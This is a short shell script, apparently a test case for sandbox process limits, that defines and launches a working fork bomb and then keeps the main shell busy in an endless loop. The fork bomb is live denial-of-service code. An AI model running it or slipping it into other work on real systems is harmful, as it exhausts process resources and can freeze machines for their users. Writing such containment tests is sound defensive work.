#!/bin/sh
# Shell fork bomb: must be contained (process limit), end by a limit, leave no survivor. The
# main shell keeps running (busy) so the bomb has time to hit the process limit.
b() { b | b & }
b
while :; do :; done
